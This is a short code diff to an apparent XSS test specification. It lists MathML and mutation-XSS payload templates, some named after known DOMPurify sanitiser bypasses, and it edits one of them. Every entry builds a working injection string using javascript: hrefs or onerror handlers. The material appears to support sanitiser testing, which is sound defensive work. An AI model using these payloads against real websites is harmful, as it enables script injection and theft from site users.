@@ -96,7 +96,7 @@ const SPECS: Spec[] = [
   // --- MathML ---
   ['math_href', 'global', '<math href=javascript:> / <maction xlink:href>', (js) => `<math href="javascript:${js}"><mi>x</mi></math><math><maction actiontype="statusline" xlink:href="javascript:${js}"><mtext>Formel</mtext></maction></math>`],
   ['math_mglyph_style', 'global', 'DOMPurify 2.0.0 mXSS: <math><mtext><table><mglyph><style>', (js) => `<math><mtext><table><mglyph><style><img src="x-missing.png" onerror="${js}"></style></mglyph></table></mtext></math>`],
-  ['math_form_mglyph', 'global', 'DOMPurify 2.2.2 mXSS: nested forms and <mglyph><style>', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src="x-missing.png" onerror="${js}">`],
+  ['math_form_mglyph', 'global', 'DOMPurify 2.2.2 mXSS: nested forms and <mglyph><style>', (js) => `<form><math><mtext></form><form><mglyph><style></math><img src="x-missing.png" onerror="${js}"></style></mglyph></form></mtext></math></form>`],
   // --- mutation XSS and parser confusion ---
   ['noscript_title', 'global', '<noscript> attribute breakout (scripting on/off parse differences)', (js) => `<noscript><p title="</noscript><img src=x-missing.png onerror=${js}>"></p></noscript>`],
   ['template_content', 'global', 'handlers inside <template> content', (js) => `<template><img src="x-missing.png" onerror="${js}"></template>`],
